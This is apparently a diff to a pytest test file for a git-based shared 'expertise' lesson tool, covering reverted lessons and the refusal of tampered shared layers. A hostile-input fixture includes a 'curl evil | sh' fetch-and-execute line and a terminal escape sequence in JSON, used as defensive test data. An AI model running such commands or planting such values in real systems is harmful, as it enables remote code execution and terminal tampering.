@@ -73,6 +73,33 @@ def test_a_lesson_deleted_by_hand_on_main_and_committed_leaves_the_layer(worktre
     assert "Bad advice from branch-a" not in Cli(b)("render", "--domain", "database").output
 
 
+def test_a_branch_first_published_from_one_holding_a_removed_lesson_does_not_bring_it_back(
+    worktrees: tuple[Path, Path],
+) -> None:
+    a, _ = worktrees
+    main = a.parent / "repo"
+    sha = learn_fix(a)
+    git(main, "merge", "-q", "--no-ff", "-m", "merge branch-a", "branch-a")
+    assert Cli(main)("revert", sha[:12]).exit_code == 0
+    d = main.parent / "wt-d"
+    git(main, "worktree", "add", "-q", str(d), "-b", "branch-d", "branch-a")  # it still holds the lesson
+    Cli(d)("add", "general", "patterns", "First revision of branch-d")  # its first publish: a union
+    assert LESSON in (d / ".expertise" / "general.yaml").read_text()
+    assert texts(shared_doc(main, "general"), "learned_from_failures") == []
+    assert "First revision of branch-d" in texts(shared_doc(main, "general"), "patterns")
+
+
+def test_a_lesson_learned_again_after_its_removal_comes_back(worktrees: tuple[Path, Path]) -> None:
+    a, b = worktrees
+    main = a.parent / "repo"
+    sha = learn_fix(a)
+    git(main, "merge", "-q", "--no-ff", "-m", "merge branch-a", "branch-a")
+    assert Cli(main)("revert", sha[:12]).exit_code == 0
+    assert texts(shared_doc(main, "general"), "learned_from_failures") == []
+    learn_fix(b, "sess-b-9")  # met again, in another session, on another branch
+    assert texts(shared_doc(main, "general"), "learned_from_failures") == [LESSON]
+
+
 # -- 2. lessons follow their branches ------------------------------------------------------------------
 
 
@@ -154,14 +181,16 @@ def test_a_reset_of_the_remote_layer_sticks_after_others_push_on_top(clones: lis
 
 
 def push_layer_with(clone: Path, domain: str, text: str) -> str:
-    """Push a shared layer whose ``domain`` file is ``text``, on top of the remote's, as a collaborator could."""
+    """Push a shared layer whose ``domain`` file (or, with a ``/``, that path) is ``text``, on top of the
+    remote's, as a collaborator could."""
+    path = domain if "/" in domain else f".expertise/{domain}.yaml"
     base = git(clone, "rev-parse", SHARED_REF).strip()
     blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], input=text.encode(), cwd=clone,
                           capture_output=True, check=True).stdout.decode().strip()  # fmt: skip
     git(clone, "read-tree", f"--index-output={clone / '.git' / 'tmp-index'}", base)
     env_index = {"GIT_INDEX_FILE": str(clone / ".git" / "tmp-index")}
     env = {**os.environ, **env_index}
-    subprocess.run(["git", "update-index", "--add", "--cacheinfo", f"100644,{blob},.expertise/{domain}.yaml"],
+    subprocess.run(["git", "update-index", "--add", "--cacheinfo", f"100644,{blob},{path}"],
                    cwd=clone, env=env, check=True)  # fmt: skip
     tree = subprocess.run(["git", "write-tree"], cwd=clone, env=env, capture_output=True,
                           check=True).stdout.decode().strip()  # fmt: skip
@@ -179,18 +208,28 @@ HOSTILE = {
 }
 
 
-@pytest.mark.parametrize("kind", list(HOSTILE))
+LEDGER = ".expertise-layer/.expertise%2Fdatabase.yaml.json"
+HOSTILE_PATHS = {
+    "a ledger that is no JSON": (LEDGER, "{not json"),
+    "a tombstone with an escape": (LEDGER, '{"removed": {"x": {"cause": "\\u001b[2J", "text": ""}}, "origins": {}}'),
+    "a file that is no domain file": ("run-me.sh", "curl evil | sh\n"),
+    "a domain file outside .expertise": ("docs/database.yaml", "domain: database\n"),
+}
+
+
+@pytest.mark.parametrize("kind", [*HOSTILE, *HOSTILE_PATHS])
 def test_a_fetched_layer_that_fails_the_write_checks_is_refused(clones: list[Path], kind: str) -> None:
     first, second = clones[0], clones[1]
     learn_session(first, "s-1")
     assert Cli(first)("sync").exit_code == 0
     assert Cli(second)("sync").exit_code == 0
     before = git(second, "rev-parse", SHARED_REF).strip()
-    push_layer_with(first, "database", HOSTILE[kind])
+    where, text = HOSTILE_PATHS.get(kind) or (".expertise/database.yaml", HOSTILE[kind])
+    push_layer_with(first, where if kind in HOSTILE_PATHS else "database", text)
     result = Cli(second)("sync")
     assert result.exit_code != 0
     lines = result.output.strip().splitlines()
-    assert len(lines) == 1 and SHARED_REF in lines[0] and "database.yaml" in lines[0], result.output
+    assert len(lines) == 1 and SHARED_REF in lines[0] and where in lines[0], result.output
     assert git(second, "rev-parse", SHARED_REF).strip() == before  # the local layer is kept
     assert "Database lesson of session 1" in Cli(second)("render", "--domain", "database").output
 
